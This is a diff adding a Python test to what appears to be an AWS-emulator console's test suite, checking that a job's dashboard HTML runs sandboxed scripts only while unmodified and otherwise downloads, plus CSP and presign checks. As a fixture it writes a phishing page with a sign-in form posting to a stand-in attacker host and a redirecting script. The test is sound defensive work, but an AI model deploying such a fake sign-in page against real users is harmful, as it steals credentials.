@@ -89,3 +89,74 @@ def test_profiled_job_has_dashboard_and_trace(server, sm):
         Bucket=BUCKET, Prefix=f"prof/{name}/profiler-output/")["Contents"]]
     assert any("/system/incremental/" in k for k in listed), listed
     assert any(k.endswith(".trace.json") and "/trace/" in k for k in listed), listed
+
+    _dashboard_runs_only_as_the_agent_wrote_it(server, s3, name, key)
+
+
+def _dashboard_runs_only_as_the_agent_wrote_it(server, s3, name, key):
+    """The console shows the dashboard with its scripts (in a sandbox) only while its bytes are
+    the ones the agent wrote; the job's creator owns that folder, and her own page there would
+    run at the console's address, draw a sign-in form and send what is typed off-site (issue
+    36, finding 6). Overwritten, or named by any other link, it downloads."""
+    import http.cookiejar
+    import urllib.error
+    import urllib.parse
+    import urllib.request
+
+    class NoRedirect(urllib.request.HTTPRedirectHandler):
+        def redirect_request(self, *a, **k):
+            return None
+
+    def get(url):
+        try:
+            r = op.open(urllib.request.Request(url), timeout=30)
+            return r.status, {k.lower(): v for k, v in r.headers.items()}, r.read()
+        except urllib.error.HTTPError as e:
+            return e.code, {k.lower(): v for k, v in e.headers.items()}, e.read()
+
+    iam = server.client("iam")
+    user = H.unique("dash-view")[:60]
+    iam.create_user(UserName=user)
+    iam.create_login_profile(UserName=user, Password="Dash-Passw0rd-1")
+    iam.put_user_policy(UserName=user, PolicyName="read", PolicyDocument=json.dumps({
+        "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:GetObject",
+                                                "Resource": f"arn:aws:s3:::{BUCKET}/*"}]}))
+    op = urllib.request.build_opener(
+        urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()), NoRedirect)
+    body = urllib.parse.urlencode({"account": "000000000000", "username": user,
+                                   "password": "Dash-Passw0rd-1"}).encode()
+    try:
+        op.open(urllib.request.Request(server.url + "/console/login", data=body), timeout=30)
+    except urllib.error.HTTPError as e:
+        assert e.code == 303
+    uri = urllib.parse.quote(f"s3://{BUCKET}/{key}", safe="")
+    view = f"{server.url}/console/download?uri={uri}&view=1&job={name}"
+
+    def shown(h):
+        return (h.get("content-type", "").startswith("text/html") and
+                "allow-scripts" in h.get("content-security-policy", "") and
+                "content-disposition" not in h)
+
+    st, h, page = get(view)
+    assert st == 200 and shown(h) and b'id="sec-rules"' in page, h
+    for other in (f"{server.url}/console/download?uri={uri}&view=1",
+                  f"{server.url}/console/download?uri={uri}&view=1&job=no-such-job"):
+        st, h, _ = get(other)
+        assert st == 200 and not shown(h), (other, h)
+        assert h.get("content-disposition", "").startswith("attachment"), h
+    s3.put_object(Bucket=BUCKET, Key=key, ContentType="text/html",
+                  Body=b"<form action=//evil.example/>Session expired, sign in again<script>"
+                       b"location='//evil.example/'</script>")
+    st, h, page = get(view)
+    assert st == 200 and not shown(h), h
+    assert h.get("content-disposition", "").startswith("attachment"), h
+    assert "allow-scripts" not in h.get("content-security-policy", ""), h
+    # the console's own pages take scripts from /console/assets/ only, not the whole origin
+    st, h, _ = get(f"{server.url}/console/home")
+    csp = h.get("content-security-policy", "")
+    assert "script-src http://" in csp and "/console/assets/;" in csp and \
+        "script-src 'self'" not in csp, csp
+    # and presign names real buckets only
+    bad = urllib.parse.quote("s3://Not_A..Bucket/x", safe="")
+    st, _, _ = get(f"{server.url}/console/presign?uri={bad}")
+    assert st in (400, 404), st
